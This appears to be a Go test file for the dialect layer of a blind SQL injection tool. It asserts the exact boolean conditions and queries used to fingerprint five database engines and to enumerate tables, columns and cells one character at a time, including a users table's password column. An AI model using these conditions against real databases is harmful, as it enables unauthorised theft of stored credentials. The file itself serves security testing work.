package dialect

import (
	"context"
	"testing"

	"github.com/pingcap/tidb/pkg/parser"
	_ "github.com/pingcap/tidb/pkg/parser/test_driver"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/koustreak/blindsight/internal/errs"
	"github.com/koustreak/blindsight/internal/oracle"
)

func TestProfile_Queries(t *testing.T) {
	tests := []struct {
		name string
		got  string
		want string
	}{
		{
			name: "mysql table count",
			got:  MySQL.TableCount(),
			want: "SELECT COUNT(*) FROM information_schema.tables WHERE table_schema = DATABASE() AND table_type = 'BASE TABLE'",
		},
		{
			name: "mysql table at",
			got:  MySQL.TableAt(3),
			want: "SELECT table_name FROM information_schema.tables WHERE table_schema = DATABASE() AND table_type = 'BASE TABLE' ORDER BY table_name LIMIT 1 OFFSET 3",
		},
		{
			name: "mysql column at quotes table literal",
			got:  MySQL.ColumnAt("o'neil", 0),
			want: "SELECT column_name FROM information_schema.columns WHERE table_name = 'o''neil' AND table_schema = DATABASE() ORDER BY column_name LIMIT 1 OFFSET 0",
		},
		{
			name: "mysql row count",
			got:  MySQL.RowCount("users"),
			want: "SELECT COUNT(*) FROM `users`",
		},
		{
			name: "mysql cell at",
			got:  MySQL.CellAt("users", "password", []string{"id", "password"}, 2),
			want: "SELECT `password` FROM `users` ORDER BY CAST(`id` AS BINARY), CAST(`password` AS BINARY) LIMIT 1 OFFSET 2",
		},
		{
			name: "postgres cell at casts",
			got:  PostgreSQL.CellAt("users", "id", []string{"id"}, 0),
			want: `SELECT CAST("id" AS TEXT) FROM "users" ORDER BY CAST("id" AS TEXT) LIMIT 1 OFFSET 0`,
		},
		{
			name: "mssql paging and brackets",
			got:  MSSQL.CellAt("dbo]x", "name", []string{"name"}, 5),
			want: "SELECT CAST([name] AS NVARCHAR(4000)) FROM [dbo]]x] ORDER BY CAST([name] AS NVARCHAR(4000)) COLLATE Latin1_General_BIN2 OFFSET 5 ROWS FETCH NEXT 1 ROWS ONLY",
		},
		{
			name: "mysql select rows sorts by binary keys",
			got:  MySQL.SelectRows("users", []string{"id", "name"}),
			want: "SELECT `id`, `name` FROM `users` ORDER BY CAST(`id` AS BINARY), CAST(`name` AS BINARY)",
		},
		{
			name: "sqlite select rows keeps default collation",
			got:  SQLite.SelectRows("users", []string{"name"}),
			want: `SELECT "name" FROM "users" ORDER BY "name"`,
		},
		{
			name: "oracle column count",
			got:  Oracle.ColumnCount("USERS"),
			want: "SELECT COUNT(*) FROM user_tab_columns WHERE table_name = 'USERS'",
		},
		{
			name: "sqlite column at",
			got:  SQLite.ColumnAt("users", 1),
			want: "SELECT name FROM pragma_table_info('users') ORDER BY name LIMIT 1 OFFSET 1",
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, tt.want, tt.got)
		})
	}
}

func TestProfile_Conditions(t *testing.T) {
	assert.Equal(t, "(SELECT 1) > 7", MySQL.Greater("SELECT 1", 7))
	assert.Equal(t, "LENGTH((SELECT 1))", MySQL.Length("SELECT 1"))
	assert.Equal(t, "LEN((SELECT 1)+'x')-1", MSSQL.Length("SELECT 1"))
	assert.Equal(t, "(LEN((SELECT 1)+'x')-1) > 3", MSSQL.Greater(MSSQL.Length("SELECT 1"), 3))
	assert.Equal(t, "SUBSTR((x), 4, 1)", SQLite.CharAt("x", 4))
	assert.Equal(t, "UNICODE(SUBSTR((x), 1, 1))", SQLite.CodePoint(SQLite.CharAt("x", 1)))

	// code point comparison sidesteps quoting of special characters
	assert.Equal(t, "ASCII(SUBSTRING((x), 2, 1)) = 92", MySQL.CharEquals("x", 2, '\\'))
	assert.Equal(t, "ASCII(SUBSTRING((x), 2, 1)) = 39", MySQL.CharEquals("x", 2, '\''))

	assert.Equal(t, "SUBSTRING((x), 1, 1) = 'a'", PostgreSQL.CharEquals("x", 1, 'a'))
	assert.Equal(t, "SUBSTRING((x), 1, 1) = ''''", PostgreSQL.CharEquals("x", 1, '\''))
}

func TestProfile_QuoteIdent(t *testing.T) {
	assert.Equal(t, "`we``ird`", MySQL.QuoteIdent("we`ird"))
	assert.Equal(t, `"a""b"`, PostgreSQL.QuoteIdent(`a"b`))
	assert.Equal(t, "[a]]b]", MSSQL.QuoteIdent("a]b"))
}

// MySQL conditions must be valid statements once embedded in a WHERE clause.
func TestMySQL_ConditionsParse(t *testing.T) {
	p := parser.New()
	order := []string{"id", "password", "username"}
	cell := MySQL.CellAt("users", "password", order, 4)

	conditions := []string{
		MySQL.Fingerprint,
		oracle.Tautology,
		MySQL.Greater(MySQL.TableCount(), 25),
		MySQL.Greater(MySQL.Length(MySQL.TableAt(0)), 12),
		MySQL.CharEquals(MySQL.TableAt(0), 1, 'u'),
		MySQL.Greater(MySQL.ColumnCount("users"), 3),
		MySQL.CharEquals(MySQL.ColumnAt("users", 2), 5, '_'),
		MySQL.Greater(MySQL.RowCount("users"), 500),
		MySQL.Greater(MySQL.Length(cell), 50),
		MySQL.CharEquals(cell, 3, '\\'),
		MySQL.Greater(MySQL.CodePoint(MySQL.CharAt(cell, 1)), 63),
		MySQL.Greater(MySQL.RowCount("users"), 0) + " AND EXISTS (" + MySQL.SelectRows("users", order) + ")",
	}

	for _, cond := range conditions {
		t.Run(cond, func(t *testing.T) {
			_, _, err := p.Parse("SELECT 1 FROM dual WHERE "+cond, "", "")
			require.NoError(t, err)
		})
	}
}

func TestLookup(t *testing.T) {
	tests := []struct {
		in   string
		want *Profile
	}{
		{"mysql", MySQL},
		{"PostgreSQL", PostgreSQL},
		{" postgresql ", PostgreSQL},
		{"ms sql server", MSSQL},
		{"mssql", MSSQL},
		{"oracle", Oracle},
		{"SQLite", SQLite},
	}
	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			p, err := Lookup(tt.in)
			require.NoError(t, err)
			assert.Same(t, tt.want, p)
		})
	}

	_, err := Lookup("db2")
	require.Error(t, err)
	assert.True(t, errs.IsInvalidInput(err))
}

func TestSelect(t *testing.T) {
	all, err := Select(nil)
	require.NoError(t, err)
	assert.Equal(t, Registry, all)

	some, err := Select([]string{"sqlite", "mysql"})
	require.NoError(t, err)
	assert.Equal(t, []*Profile{SQLite, MySQL}, some)

	_, err = Select([]string{"mysql", "nope"})
	assert.Error(t, err)
}

type fingerprints map[string]bool

func (f fingerprints) Ask(_ context.Context, cond string) (bool, error) {
	return f[cond], nil
}

func TestDetect(t *testing.T) {
	tests := []struct {
		name     string
		matches  fingerprints
		profiles []*Profile
		want     *Profile
	}{
		{
			name:     "single match",
			matches:  fingerprints{PostgreSQL.Fingerprint: true},
			profiles: Registry,
			want:     PostgreSQL,
		},
		{
			name:     "single match, reversed order",
			matches:  fingerprints{PostgreSQL.Fingerprint: true},
			profiles: []*Profile{SQLite, Oracle, MSSQL, PostgreSQL, MySQL},
			want:     PostgreSQL,
		},
		{
			name:     "several match, first wins",
			matches:  fingerprints{SQLite.Fingerprint: true, MSSQL.Fingerprint: true},
			profiles: Registry,
			want:     MSSQL,
		},
		{
			name:     "several match, custom order",
			matches:  fingerprints{SQLite.Fingerprint: true, MSSQL.Fingerprint: true},
			profiles: []*Profile{SQLite, MSSQL},
			want:     SQLite,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p, err := Detect(context.Background(), tt.matches, tt.profiles)
			require.NoError(t, err)
			assert.Same(t, tt.want, p)
		})
	}
}

func TestDetect_NoMatch(t *testing.T) {
	_, err := Detect(context.Background(), fingerprints{}, Registry)
	require.Error(t, err)
	assert.True(t, errs.IsDialectNotDetected(err))
}
